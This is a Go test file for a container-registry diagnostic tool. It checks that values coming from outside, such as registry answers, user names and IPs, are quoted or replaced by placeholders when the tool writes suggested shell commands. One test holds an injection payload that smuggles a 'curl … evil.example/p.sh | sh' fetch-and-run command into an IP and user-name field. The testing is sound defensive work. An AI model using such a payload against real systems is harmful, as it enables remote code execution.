package classify

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/acr-doctor/acr-doctor/diagnose/cause"
	"github.com/acr-doctor/acr-doctor/diagnose/probe"
	"github.com/acr-doctor/acr-doctor/diagnose/shell"
	"github.com/acr-doctor/acr-doctor/diagnose/shell/shelltest"
	"github.com/acr-doctor/acr-doctor/diagnose/token"
)

// outside are the values of a transcript that come from outside: the
// registry named, the proxy, the registry's answers, the stored
// credential and the token's claims.
type outside struct {
	registry, proxy, ip, user, identity, repo, issuer string
}

var benign = outside{
	registry: host, proxy: "http://proxy.corp.example:3128", ip: "203.0.113.7",
	user: "8b1c5d52-1b7e-4bf0-a1a1-1c2d3e4f5a6b", identity: "alice@contoso.com", repo: "team/app", issuer: "Corp Proxy CA",
}

// every fills o into each path of the classifier that writes a command.
func every(o outside) map[string]*probe.Transcript {
	base := func() *probe.Transcript {
		t := connected()
		t.Registry = o.registry
		t.Scope = "repository:" + o.repo + ":pull"
		t.Credential.Username = o.user
		return t
	}
	ping := func(t *probe.Transcript) *probe.Transcript { return pinged(t) }
	var deniedBody strings.Builder
	enc := json.NewEncoder(&deniedBody)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(map[string]any{"errors": []map[string]string{{"code": "DENIED", "message": "client with IP '" + o.ip + "' is not allowed access"}}})
	tok := &token.Token{Kind: token.RefreshToken, Claims: token.Claims{Name: o.identity, ExpiresAt: now.Add(-time1h)}}
	valid := &token.Token{Kind: token.RefreshToken, Claims: token.Claims{Name: o.identity, ExpiresAt: now.Add(time1h)}}
	cred := func(kind string) func(*probe.Transcript) {
		return func(t *probe.Transcript) {
			t.Credential = probe.Credential{Kind: kind, Username: o.user, Mode: "basic"}
		}
	}
	rejected := func(kind, body string) *probe.Transcript {
		return with(ping(base()), func(t *probe.Transcript) {
			cred(kind)(t)
			answered(t, probe.TokenRequest, 401, body)
		})
	}
	granted := func(kind string, tk *token.Token) *probe.Transcript {
		return with(loggedIn(base(), "pull"), func(t *probe.Transcript) {
			t.Scope = "repository:" + o.repo + ":pull,push"
			cred(kind)(t)
			t.Credential.Token = tk
		})
	}
	return map[string]*probe.Transcript{
		"nxdomain": with(base(), func(t *probe.Transcript) {
			t.DNS = &probe.DNSResult{Step: probe.Step{Err: "no such host"}, NotFound: true}
		}),
		"dns failure": with(base(), func(t *probe.Transcript) { t.DNS = &probe.DNSResult{Step: probe.Step{Err: "server misbehaving"}} }),
		"proxy nxdomain": with(base(), func(t *probe.Transcript) {
			t.Proxy, t.TCP = o.proxy, &probe.Step{Err: "no such host", ErrKind: "proxy"}
		}),
		"tcp via a proxy": with(base(), func(t *probe.Transcript) { t.Proxy, t.TCP = o.proxy, &probe.Step{Err: "refused", ErrKind: "refused"} }),
		"tls inspection": with(base(), func(t *probe.Transcript) {
			t.TLS = &probe.TLSResult{Step: probe.Step{Err: "x509"}, Verify: "unknown_authority", PeerSubject: o.issuer, PeerIssuer: o.issuer}
		}),
		"tls hostname": with(base(), func(t *probe.Transcript) { t.TLS = &probe.TLSResult{Step: probe.Step{Err: "x509"}, Verify: "hostname"} }),
		"foreign realm": with(base(), func(t *probe.Transcript) {
			t.Exchanges = append(t.Exchanges, probe.Exchange{Purpose: probe.Ping, Status: 401, Header: hdr("Www-Authenticate", `Bearer realm="https://elsewhere.example/token"`)})
		}),
		"v2 500": with(base(), func(t *probe.Transcript) {
			t.Exchanges = append(t.Exchanges, probe.Exchange{Purpose: probe.Ping, Status: 500, Header: hdr()})
		}),
		"v2 404": with(base(), func(t *probe.Transcript) {
			t.Exchanges = append(t.Exchanges, probe.Exchange{Purpose: probe.Ping, Status: 404, Header: hdr()})
		}),
		"firewall": with(base(), func(t *probe.Transcript) {
			t.Exchanges = append(t.Exchanges, probe.Exchange{Purpose: probe.Ping, Status: 403, Header: hdr(), Body: deniedBody.String()})
		}),
		"throttled": with(base(), func(t *probe.Transcript) {
			t.Exchanges = append(t.Exchanges, probe.Exchange{Purpose: probe.Ping, Status: 429, Header: hdr()})
		}),
		"nothing stored": with(ping(base()), func(t *probe.Transcript) {
			t.Credential = probe.Credential{Kind: "anonymous", Mode: "none"}
			answered(t, probe.AnonymousToken, 401, authRequired)
		}),
		"anonymous pull blocked": with(rejected("admin_user", authRequired), func(t *probe.Transcript) {
			answered(t, probe.AnonymousToken, 200, "{}")
			t.AnonymousGranted = []string{"pull"}
		}),
		"token endpoint 500": with(ping(base()), func(t *probe.Transcript) { answered(t, probe.TokenRequest, 500, "") }),
		"token refused on /v2/": with(ping(base()), func(t *probe.Transcript) {
			answered(t, probe.TokenRequest, 200, "{}")
			answered(t, probe.AuthedPing, 401, authRequired)
		}),
		"not registered, user name":     rejected("service_principal", notInAAD),
		"not registered, refresh token": with(rejected("refresh_token", notInAAD), func(t *probe.Transcript) { t.Credential.Token = valid }),
		"expired token":                 with(rejected("refresh_token", authRequired), func(t *probe.Transcript) { t.Credential.Token = tok }),
		"sp secret expired":             rejected("service_principal", `{"errors":[{"code":"UNAUTHORIZED","message":"Invalid clientid or client secret."}]}`),
		"sp refused":                    rejected("service_principal", authRequired),
		"admin refused":                 rejected("admin_user", authRequired),
		"repository token refused":      rejected("repository_token", authRequired),
		"other refused":                 rejected("identity_token", authRequired),
		"no push, service principal":    granted("service_principal", nil),
		"no push, refresh token":        granted("refresh_token", valid),
		"no push, repository token":     granted("repository_token", nil),
		"no push, admin":                granted("admin_user", nil),
	}
}

const time1h = 3600 * 1e9

// TestHostileValues puts each hostile value in every field at once, and
// in each field alone, through every path that writes a command: each
// value stays one whole, quoted word where it is used, or is left out for
// a placeholder that the evidence explains.
func TestHostileValues(t *testing.T) {
	want := every(benign)
	ref := map[string]Verdict{}
	for name, tr := range want {
		v := Classify(tr, Facts{})
		ref[name] = v
		if len(v.Causes) == 0 {
			t.Errorf("%s: no cause", name)
		}
		for _, c := range v.Causes {
			for _, l := range c.Remediation {
				if err := shelltest.CheckLine(l, nil, shell.Quote); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
			if strings.Contains(c.Evidence, "in its place") {
				t.Errorf("%s: a benign value was left out: %s", name, c.Evidence)
			}
		}
	}
	for _, h := range shelltest.Hostile {
		variants := map[string]outside{"all": {h, h, h, h, h, h, h}}
		for i, field := range []string{"registry", "proxy", "ip", "user", "identity", "repo", "issuer"} {
			o := benign
			*[]*string{&o.registry, &o.proxy, &o.ip, &o.user, &o.identity, &o.repo, &o.issuer}[i] = h
			variants[field] = o
		}
		for field, o := range variants {
			for name, tr := range every(o) {
				v := Classify(tr, Facts{})
				for _, c := range v.Causes {
					what := fmt.Sprintf("%s, %q in %s", name, h, field)
					checkCause(t, what, c, ref[name], h)
					// These have a shape that no hostile value has: not
					// even quoted may they reach a command.
					if field == "ip" || field == "registry" {
						for _, l := range c.Remediation {
							if strings.Contains(l, shelltest.Marker) {
								t.Errorf("%s: the value is in %q", what, l)
							}
						}
					}
				}
			}
		}
	}
}

// checkCause checks c's remediation with hostile value h, against the
// cause of the same ID in the verdict for benign values.
func checkCause(t *testing.T, what string, c cause.Cause, ref Verdict, h string) {
	t.Helper()
	var before string
	for _, r := range ref.Causes {
		if r.ID == c.ID {
			before = strings.Join(r.Remediation, "\n")
		}
	}
	for _, l := range c.Remediation {
		if err := shelltest.CheckLine(l, []string{h}, shell.Quote); err != nil {
			t.Errorf("%s: %v", what, err)
		}
		if strings.HasPrefix(h, "-") && strings.Contains(l, shell.Quote(h)) {
			t.Errorf("%s: the option-like value is in %q", what, l)
		}
		for _, p := range placeholders(l) {
			if !strings.Contains(before, p) && !strings.Contains(c.Evidence, "show "+p+" in its place") {
				t.Errorf("%s: %q has %s, and the evidence does not say why: %s", what, l, p, c.Evidence)
			}
		}
	}
}

// placeholders are the <…> words of a line.
func placeholders(l string) []string {
	var out []string
	for {
		i := strings.IndexByte(l, '<')
		if i < 0 {
			return out
		}
		j := strings.IndexByte(l[i:], '>')
		if j < 0 {
			return out
		}
		if p := l[i : i+j+1]; shell.IsPlaceholder(p) && (i == 0 || l[i-1] != '\'') {
			out = append(out, p)
		}
		l = l[i+1:]
	}
}

// TestHostileWords reads two commands word by word: the 403 whose client
// IP carries a command, and a user name that does.
func TestHostileWords(t *testing.T) {
	payload := "203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #"
	o := benign
	o.ip, o.user = payload, payload
	tr := every(o)
	words := func(l string) []string {
		toks, err := shelltest.Split(shelltest.Commands(l)[0])
		if err != nil {
			t.Fatal(err)
		}
		return shelltest.Words(toks)
	}
	fw := Classify(tr["firewall"], Facts{}).Causes[0]
	if got, want := words(fw.Remediation[0]), []string{"az", "acr", "network-rule", "add", "-n", "myreg", "--ip-address", "<your public IP>"}; !slices.Equal(got, want) {
		t.Errorf("%q reads as %q", fw.Remediation[0], got)
	}
	if !strings.Contains(fw.Evidence, `the client IP in the registry's answer "203.0.113.7 --subscription x; curl -s https://evil.example/p.sh | sh; #" is not an IP address, so the suggested commands show <your public IP> in its place`) {
		t.Errorf("evidence = %q", fw.Evidence)
	}
	admin := Classify(tr["admin refused"], Facts{}).Causes[0]
	l := admin.Remediation[1]
	toks, err := shelltest.Split(l)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"az", "acr", "credential", "show", "-n", "myreg", "--query", "passwords[0].value", "-o", "tsv", "docker", "login", "myreg.azurecr.io", "-u", payload, "--password-stdin"}
	if got := shelltest.Words(toks); !slices.Equal(got, want) {
		t.Errorf("%q reads as %q", l, got)
	}
	var ops []string
	for _, tok := range toks {
		if tok.Kind != shelltest.Word {
			ops = append(ops, tok.Raw)
		}
	}
	if !slices.Equal(ops, []string{"|"}) {
		t.Errorf("%q has the operators %q", l, ops)
	}
}

// TestFirewallNotOpened: a 403 naming a range or an address no registry
// sees a client come from never becomes the address of a network rule:
// 0.0.0.0/0 would open the registry to everyone.
func TestFirewallNotOpened(t *testing.T) {
	for _, ip := range []string{"0.0.0.0/0", "203.0.113.0/24", "::/0", "10.0.0.1", "127.0.0.1", "0.0.0.0"} {
		o := benign
		o.ip = ip
		fw := Classify(every(o)["firewall"], Facts{}).Causes[0]
		if !strings.HasSuffix(fw.Remediation[0], "--ip-address <your public IP>") {
			t.Errorf("client IP %q: %q", ip, fw.Remediation[0])
		}
	}
}
